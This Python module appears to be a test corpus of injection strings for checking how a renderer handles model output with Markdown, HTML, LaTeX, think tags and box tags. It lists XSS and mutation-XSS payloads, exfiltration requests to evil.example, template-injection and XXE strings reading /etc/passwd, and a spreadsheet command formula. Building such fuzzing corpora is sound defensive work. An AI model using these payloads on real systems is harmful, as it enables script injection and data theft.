r"""Texts that would do harm on a page that took them for more than text: what runs as script, what asks another host,
what breaks out of an attribute, a comment, a formula or a code block.

Each calls `alert` or asks `evil.example` where it works. `CLOSED` are whole; what follows one of `OPEN` may be taken
for a part of it, so these stand last where several are shown together.
"""

HOST = "https://evil.example"

# An element and what of it runs without a click, a focus, or with one.
ACTIVE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data={HOST}/x.svg></object>",
    "<div style='animation:x 1s' onanimationstart=alert(1)>x</div>",
    "<button popovertarget=x onclick=alert(1)>x</button>",
    "<math><mtext onclick=alert(1)>x</mtext></math>",
]

# Where it stands: places out of which it may break, and places that are read in a way of their own.
AROUND = [
    "{}",
    '">{}',
    "'>{}",
    "</textarea></title></style></script>{}",
    "--><!-- --!>{}",
    "[{}](https://example.org/)",
    "| a | b |\n|---|---|\n| {} | x |",
    "1. {}\n   > {}",
    "```html\n{}\n```",
    "`{}`",
    "# {}",
    "<ref>{}</ref><box>[[100, 200, 300, 400]]</box>",
    "<think>{}</think>\n\nAfter it.",
    "$\\text{{{}}}$",
]

# Addresses that run something, hide where they lead, or bring a document of their own.
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://%0aalert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/1",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https://example.org@evil.example/",
    "https://evil.example/\u202egpj.exe",
    "file:///etc/passwd",
]

LINKS = [
    "[a link]({})",
    "![a picture]({})",
    "[a link](<{}>)",
    "<{}>",
    "[by name][n]\n\n[n]: {}",
    "<a href='{}'>a link</a>",
    "[a link](https://example.org/ '{}')",
]

STYLES = [
    f"<style>@import '{HOST}/x.css';</style>",
    f"<style>*{{background:url({HOST}/x)}}</style>",
    f"<link rel=stylesheet href={HOST}/x.css>",
    f"<div style='background:url({HOST}/x)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999'>over all</div>",
    f"<style>input[value^=a]{{background:url({HOST}/a)}}</style>",
    "<style>body{display:none}</style>",
    f"<style>@font-face{{font-family:x;src:url({HOST}/x)}}</style>",
    '<p style="width:expression(alert(1))">x</p>',
    "<b style=-moz-binding:url(//evil.example/x)>x</b>",
    "</style><style>.reply{display:none}</style>",
    f"<table background={HOST}/x><tr><td>x</table>",
]

FORMULAS = [
    r"$\href{javascript:alert(1)}{x}$",
    r"$\href{https://evil.example/}{x}$",
    r"$\url{javascript:alert(1)}$",
    r"$\includegraphics{https://evil.example/x.png}$",
    r"$\includegraphics[height=9em]{https://evil.example/x.png}$",
    r"$\htmlData{onload=alert(1)}{x}$",
    r"$\htmlClass{strong}{x}$",
    r"$\htmlId{log}{x}$",
    r"$\htmlStyle{background:url(https://evil.example/x)}{x}$",
    r"$\text{</span><img src=x onerror=alert(1)>}$",
    r"$\unicode{x3c}\text{script}$",
    r"$\color{red;background:url(https://evil.example/x)}x$",
    r"$\fcolorbox{red}{blue}{x}$",
    r"$\textcolor{#f00' onclick='alert(1)}{x}$",
    r"$\def\x{\x\x}\x$",
    r"$\gdef\frac#1#2{\href{javascript:alert(1)}{#1}} \frac12$",
    r"$\rule{9999em}{9999em}$",
    r"$\kern{-999em}\smash{x}$",
    r"$$\begin{array}{" + "c" * 200 + r"}x\end{array}$$",
    r"$\mathchoice{\href{javascript:alert(1)}{a}}bcd$",
    r"\(\verb|<img src=x onerror=alert(1)>|\)",
    r"\[\htmlData{a=b><script>alert(1)</script>}{x}\]",
    r"$\tag{</annotation><script>alert(1)</script>}x$",
    r"$</annotation></semantics></math><img src=x onerror=alert(1)>$",
]

# What became something else when it was cleaned, written and read again: the classics of DOMPurify's own tests.
MUTATIONS = [
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<svg><desc><noscript></desc></noscript><style><img src=x onerror=alert(1)></style></svg>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><title><a title='</title><img src=x onerror=alert(1)>'></svg>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<p><svg><style><img src=x onerror=alert(1)></style></svg></p>",
    "<math><mi><table><mi><mglyph><style><math>CLICKME</math><img src=x onerror=alert(1)></style></table></math>",
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'></svg>",
    "<b><a><b><a><b><a><b><img src=x onerror=alert(1)></b></a></b></a></b></a></b>",
    "<img src=x alt=`` onerror=alert(1)//`>",
    "<a href='\"'><img alt='\"><img src=x onerror=alert(1)>'></a>",
    "<table><caption><svg><style></table><img src=x onerror=alert(1)></style></svg></caption></table>",
]

SVG = [
    "<svg><script href='data:,alert(1)'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    f"<svg><use href='{HOST}/x.svg#a'/></svg>",
    f"<svg><image href='{HOST}/x.png'/></svg>",
    f"<svg><feImage href='{HOST}/x.png'/></svg>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>alert(1)</handler></svg>",
    "<svg><animatetransform onbegin=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#https://evil.example'>x</maction></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><script>alert(1)</script></annotation-xml></math>",
]

# What asks another host, or leads the whole page there.
REQUESTS = [
    f"<meta http-equiv=refresh content='0;url={HOST}/'>",
    f"<base href='{HOST}/'>",
    f"<form action={HOST}/><button>x</button></form>",
    f"<input type=image src={HOST}/x.png>",
    f"<embed src={HOST}/x.swf>",
    f"<frameset><frame src={HOST}/></frameset>",
    f"<img src={HOST}/x.png srcset='{HOST}/y.png 2x'>",
    f"<picture><source srcset={HOST}/x.png><img></picture>",
    f"<video poster={HOST}/x.png></video>",
    f"<link rel=prefetch href={HOST}/>",
    f"<link rel=dns-prefetch href={HOST}>",
    f"<a ping={HOST}/ href=https://example.org/>x</a>",
    f"<portal src={HOST}/></portal>",
    f"<bgsound src={HOST}/x.wav>",
    f"<isindex action={HOST}/>",
    f"![picture]({HOST}/x.png)",
    f"![picture]({HOST}/x.png?said=secret 'title')",
    f"[![picture]({HOST}/x.png)]({HOST}/)",
    f'<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="{HOST}/x"/></svg>\'>',
    f"<script src={HOST}/x.js></script>",
    f"<script type=module>import '{HOST}/x.js'</script>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{HOST}/"]}}]}}</script>',
]

# Templates of every kind that a server or a script might fill in.
TEMPLATES = [
    "${alert(1)}",
    "`${alert(1)}`",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% include '/etc/passwd' %}",
    "<%= system('id') %>",
    "#{7*7}",
    "*{T(java.lang.Runtime)}",
    "[[${7*7}]]",
    "%(password)s %s %d %n",
    "{name} {0} {count}",
    "{0.__class__.__mro__}",
    "'+alert(1)+'",
    '");alert(1);//',
    "\\';alert(1);//",
    "</script><script>alert(1)</script>",
    "\u2028alert(1)\u2029",
    "]]><script>alert(1)</script>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "=cmd|' /C calc'!A0",
]

# Names that are properties of what scripts keep things in, or of the document.
NAMES = [
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "<img name=body>",
    "<form id=bootstrap><input name=textContent></form>",
    "<a id=words></a><a id=words name=close>x</a>",
    "<div id=log><div id=message></div></div>",
    "<span data-part=text data-message=x class=reply>x</span>",
    "<span class='place' title='thousandths 1,2,300,400'>forged</span>",
]

UNICODE = [
    "\u202e<tpircs>",
    "\u202etxt.exe",
    "\u2066\u202ehidden\u2069 shown",
    "a\u200b\u200c\u200d\ufeffb",
    "\ufeff<script>alert(1)</script>",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bascript\u02ba onerror\uff1dalert(1)",
    "e" + "\u0301" * 200,
    "\u0e49" * 300,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 40,
    "\U000e0041\U000e0042 tags",
    "\ud7ff\ue000\ufffd",
    "x" * 600,
    "\u2003\u3000\u00a0",
    "\x0b\x0c\x1b[31mred\x1b[0m",
    "\u0130\u0131\u017f\u212a",
    "<img\u00a0src=x\u00a0onerror=alert(1)>",
]

# Boxes whose labels or numbers are not what they should be.
BOXES = [
    '{"bbox_2d": [1, 2, 300, 400], "label": "<img src=x onerror=alert(1)>"}',
    '{"bbox_2d": [1, 2, 300, 400], "label": "\\" onmouseover=\\"alert(1)"}',
    '{"bbox_2d": ["1);alert(1", 2, 3, 4], "label": "x"}',
    '{"bbox_2d": [1e999, -1e999, 3, 4], "label": "x"}',
    '{"bbox_2d": [1, 2, 300, 400], "label": "x", "__proto__": {"boxes": 1}}',
    '{"box_2d": [1, 2, 300, 400], "label": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}',
    '```json\n[{"bbox_2d": [1, 2, 300, 400], "label": "</script><script>alert(1)</script>"}]\n```',
    "<ref>[x](javascript:alert(1))</ref><box>[[1, 2, 300, 400]]</box>",
    "<ref>$\\href{javascript:alert(1)}{x}$</ref><box>[[1, 2, 300, 400]]</box>",
    "<ref>a</ref><box>[[0, 0, 1000, 1000]]</box><ref></ref><box>[[1,1,2,2]]</box>",
    f"<ref>many</ref><box>[{','.join(['[1,2,300,400]'] * 60)}]</box>",
    "<|object_ref_start|><b onclick=alert(1)>x</b><|object_ref_end|><|box_start|>(1,2),(300,400)<|box_end|>",
    "<ref>&lt;script&gt;</ref><box>[[1;alert(1), 2, 3, 4]]</box>",
]

MARKDOWN = [
    "[a link](/admin/logout/)",
    "[a link](?model=x#log)",
    '[a](https://example.org/"onmouseover="alert(1))',
    "[a](https://example.org/ \"x' onmouseover='alert(1)\")",
    "[a](https://example.org/`onclick=alert(1))",
    '<https://example.org/"onmouseover=alert(1)>',
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/<script>alert(1)</script>",
    "www.evil.example javascript:alert(1)",
    "alert@evil.example mailto:x@evil.example?subject=<script>",
    '```" onload=alert(1) x="\ncode\n```',
    "```</code></pre><script>alert(1)</script>\ncode\n```",
    "~~~html onload=alert(1)\n<img src=x onerror=alert(1)>\n~~~",
    "    <script>alert(1)</script>",
    '| <svg onload=alert(1)> | b |\n|:-:|" onclick=alert(1) |\n| a | b |',
    "[^1]: <script>alert(1)</script>\n\n[^1]",
    "*a <b onclick=alert(1)>* b</b>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<<script>script>alert(1)<</script>/script>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<a\nhref\n=\njavascript:alert(1)\n>x</a>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<!-- a comment --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x]: <javascript:alert(1)>\n\n[x] ![x]",
    "> " * 60 + "deep",
    "[" * 200 + "a" + "](b)" * 200,
    "*" * 300 + "a" + "_" * 300,
]

THINKING = [
    "<think><script>alert(1)</script></think><img src=x onerror=alert(1)>",
    "<think></think><think><svg onload=alert(1)></think>",
    "</think><script>alert(1)</script>",
    "<think onclick=alert(1)>x</think>",
]

OPEN = [
    "<!-- <script>alert(1)</script>",
    f"<img src='{HOST}/?",
    f"<a href='{HOST}/?",
    f'<form action="{HOST}/"><textarea name=said>',
    f"<button form=x formaction={HOST}/><input type=submit",
    f"<style>@import '{HOST}/",
    f"<meta http-equiv=refresh content='0;url={HOST}/?",
    f"<iframe src='{HOST}/?",
    "<script>alert(1)",
    "<svg><style><![CDATA[",
    "<plaintext>",
    "<noscript><img title='",
    "```html\n<script>alert(1)</script>",
    "~~~\n</code></pre><img src=x onerror=alert(1)>",
    "$$\\href{javascript:alert(1)}{",
    "\\[ <img src=x onerror=alert(1)>",
    "<ref><img src=x onerror=alert(1)></ref><box>[[1, 2",
    '{"bbox_2d": [1, 2, 3, 4], "label": "<script>alert(1)',
    "[a link](javascript:alert(1",
    "![a picture](https://evil.example/x.png",
    "| <img src=x onerror=alert(1)> | b |\n|---",
    "<think><script>alert(1)</script>",
]

CLOSED = [
    *(
        around.replace("{{", "{").replace("}}", "}").replace("{}", text)
        for around in AROUND
        for text in ACTIVE
    ),
    *(link.replace("{}", address) for link in LINKS for address in ADDRESSES),
    *STYLES,
    *FORMULAS,
    *MUTATIONS,
    *SVG,
    *REQUESTS,
    *TEMPLATES,
    *NAMES,
    *UNICODE,
    *BOXES,
    *MARKDOWN,
    *THINKING,
]

ALL = [*CLOSED, *OPEN]
